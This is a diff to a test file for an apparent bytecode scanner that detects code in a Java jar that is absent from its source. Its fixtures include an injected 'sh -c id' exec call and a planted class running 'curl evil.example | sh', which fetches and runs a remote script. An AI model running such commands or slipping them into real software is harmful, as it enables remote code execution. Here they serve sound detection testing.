@@ -61,6 +61,13 @@ def a_swapped_method_body_is_found(t):
 
 
 @case
+def an_added_call_is_named(t):
+    finding = only(shop(t, lambda c: c.with_command("open", "sh -c id")), "bytecode.foreign")
+    assert finding["evidence"]["not in the source"] == "getRuntime, sh -c id, exec", finding
+    assert "Shop.open" in finding["message"]
+
+
+@case
 def one_more_class_in_the_jar_is_found(t):
     evil = runner("org/example/Helper", "Shop.java", "curl evil.example | sh")
     finding = only(shop(t, more={"org/example/Helper.class": evil}), "bytecode.no-source")
